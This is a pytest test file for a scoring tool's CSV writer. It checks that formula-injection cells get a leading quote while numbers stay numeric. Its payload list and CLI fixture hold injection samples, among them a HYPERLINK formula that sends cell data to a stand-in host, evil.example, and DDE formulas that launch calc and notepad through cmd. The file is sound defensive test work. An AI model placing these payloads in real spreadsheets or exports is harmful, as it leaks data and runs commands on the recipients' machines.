"""Formula injection in the CSV LeadGrid writes (issue 20): a cell that a spreadsheet would run
as a formula gets a leading single quote (OWASP), keeps its value readable, and numbers stay
numbers. ``scoring.data.csvwrite.to_csv`` is used by ``score --out`` and ``matrix --format csv``."""

from __future__ import annotations

import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from clicases import MODEL_YAML, run
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scoring.data.csvwrite import FORMULA_STARTS, neutralise, to_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',  # the examples
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",  # other prefixes and forms of our own
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
    "-1-1",
    "=cmd|'/c notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_one_leading_quote_and_keeps_its_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-5", "+5", "-3.25", "-1e3", "+.5", "Software", "a=b", " =1", "'=1", "", "5,000"])
def test_plain_numbers_and_harmless_text_are_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, None, np.nan, True])
def test_values_that_are_not_text_are_unchanged(value):
    assert neutralise(value) is value


def test_a_frame_keeps_negative_numbers_as_numbers_and_quotes_text_index_and_header():
    frame = pd.DataFrame({"score": [-1.5, 2.0], "=evil": ["=1+1", "ok"], "count": pd.array([-3, None], "Int64")},
                         index=pd.Index(["@SUM(1+1)", "L2"], name="lead_id"))
    text = to_csv(frame)
    assert text.splitlines() == ["lead_id,score,'=evil,count", "'@SUM(1+1),-1.5,'=1+1,-3", "L2,2.0,ok,"]
    assert list(frame.columns) == ["score", "=evil", "count"]  # the caller's frame is not changed


TEXT = st.text(alphabet="=+-@\t\r abc1.,e'\"", max_size=8)


@settings(deadline=None)  # a Scorer or a CSV round trip per example: slow on a busy machine
@given(st.lists(st.tuples(TEXT, st.floats(allow_nan=False, allow_infinity=False, min_value=-1e6, max_value=1e6)),
                min_size=1, max_size=10))
@example([("=1+1", -1.0), ("-5", -2.5)])
@example([("\r", 0.0), ("a\rb", 1.0), ("\r=1+1", 2.0)])
def test_property_read_back_every_text_cell_is_inert_and_numbers_are_equal(rows):
    frame = pd.DataFrame(rows, columns=["text", "number"])
    back = pd.read_csv(io.StringIO(to_csv(frame, index=False)), dtype={"text": str}, keep_default_na=False,
                       lineterminator=None)
    assert back["number"].tolist() == pytest.approx(frame["number"].tolist())  # floats round-trip as numbers
    for written, original in zip(back["text"], frame["text"], strict=True):
        is_number = pd.notna(pd.to_numeric(pd.Series([original]), errors="coerce").iloc[0])
        plain = is_number and original.strip() == original and original[:1] not in ("\t", "\r")
        if original.startswith(FORMULA_STARTS) and not plain:
            assert written == "'" + original
        else:
            assert written == original


# ------------------------------------------------------------------ the command line


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "model.yaml").write_text(MODEL_YAML, encoding="utf-8")
    leads = pd.DataFrame({
        "lead_id": ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-5", "L5"],
        "industry": ["Software", "Retail", "Other", "Software", "Retail"],
        "employees": ["5000", "-12", "50", "1000", "150"],
        "total_visits": ["12", "0", "3", "20", "10"],
        "lead_source": ["=1+1", "-2+3", "@x", "webinar", "\t=2"],
        "accepted": ["yes", "no", "yes", "no", "yes"],
    })
    leads.to_csv(tmp_path / "leads.csv", index=False)
    return {"model": tmp_path / "model.yaml", "leads": tmp_path / "leads.csv"}


def _args(files):
    return ["--model", files["model"], "--leads", files["leads"], "--as-of", "2026-03-01"]


def _cells(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


def test_score_out_neutralises_lead_ids_and_keeps_scores_as_numbers(capsys, files, tmp_path):
    out = tmp_path / "scores.csv"
    code, _, err = run(capsys, "score", *_args(files), "--out", out)
    assert code == 0, err
    written = _cells(out.read_text(encoding="utf-8"))
    assert written["lead_id"].tolist() == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'+cmd|' /C calc'!A0",
                                           "'@SUM(1+1)", "-5", "L5"]
    scores = pd.to_numeric(written["profile_score"])  # every score is still a number
    assert scores.notna().all()


def test_matrix_csv_and_its_segment_breakdown_are_neutralised(capsys, files):
    code, out, err = run(capsys, "matrix", *_args(files), "--format", "csv", "--segment", "lead_source")
    assert code == 0, err
    values = _cells(out).iloc[:, 0].tolist()
    assert {"'=1+1", "'-2+3", "'@x", "'=2", "webinar"} <= set(values), values  # segments trim values
    assert not [value for value in values if value.startswith(FORMULA_STARTS)]
    code, out, _ = run(capsys, "matrix", *_args(files), "--format", "csv")
    assert code == 0
    assert not [cell for cell in out.replace("\n", ",").split(",") if cell.startswith(FORMULA_STARTS)]
